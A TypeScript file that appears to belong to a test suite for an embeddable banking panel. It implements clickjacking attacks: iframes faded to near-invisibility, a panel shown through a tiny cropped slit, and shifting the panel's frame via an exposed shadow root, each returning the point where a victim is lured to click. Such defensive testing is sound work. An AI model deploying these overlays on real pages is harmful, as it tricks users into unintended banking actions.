/** Where the button that is to be pressed stands on the screen, CSS px of the top page. */
export interface Box {
  readonly x: number;
  readonly y: number;
  readonly width: number;
  readonly height: number;
}

/** Runs in the bank's page. Gives the point at which the victim is lured to press, where it is not the button's own. */
export type Attack = (button: Box) => { x: number; y: number } | undefined;

/** Tricks with the panel's own frame, and with frames of the page's making that hold the panel. */
export const frameAttacks: Readonly<Record<string, Attack>> = {
  frameReached(button) {
    // By a custom element of our name a page gets at the closed root: the frame is shifted inside its holder.
    const internals = (window as unknown as { internals?: ElementInternals[] }).internals ?? [];
    for (const each of internals) {
      const frame = each.shadowRoot?.querySelector('iframe');
      if (frame)
        frame.style.cssText = `position:absolute;width:360px;height:${innerHeight}px;left:0;top:${-(button.y - 60)}px`;
    }
    const root = document.querySelector('tellerwise-root')?.getBoundingClientRect();
    return { x: button.x + 20, y: (root?.top ?? 0) + 24 };
  },
  ownFrameFaded(button) {
    return embed(button, 'opacity:0.01', 0);
    function embed(target: Box, css: string, shift: number): { x: number; y: number } {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe src="${(window as unknown as { panelAddress: string }).panelAddress}" style="position:fixed;left:100px;top:44px;width:360px;height:716px;border:0;z-index:9;${css}"></iframe>`,
      );
      const root = document.querySelector('tellerwise-root')?.getBoundingClientRect();
      return { x: 100 + target.x - (root?.left ?? 0) + 20, y: target.y + shift + 10 };
    }
  },
  ownFrameInSlit(button) {
    // A frame of the page's own making with the panel in it, of which a slit of the button shows.
    const root = document.querySelector('tellerwise-root')?.getBoundingClientRect();
    const [left, top] = [button.x - (root?.left ?? 0), button.y - (root?.top ?? 0)];
    document.body.insertAdjacentHTML(
      'beforeend',
      `<div style="position:fixed;left:200px;top:200px;width:20px;height:16px;overflow:hidden;z-index:9"><iframe src="${(window as unknown as { panelAddress: string }).panelAddress}" style="position:absolute;left:${-left - 8}px;top:${-top - 8}px;width:360px;height:716px;border:0"></iframe></div>`,
    );
    return { x: 208, y: 208 };
  },
  ownFrameWhole(button) {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<iframe src="${(window as unknown as { panelAddress: string }).panelAddress}" style="position:fixed;left:100px;top:44px;width:360px;height:716px;border:0;z-index:9"></iframe>`,
    );
    const root = document.querySelector('tellerwise-root')?.getBoundingClientRect();
    return { x: 100 + button.x - (root?.left ?? 0) + 20, y: button.y + 10 };
  },
};
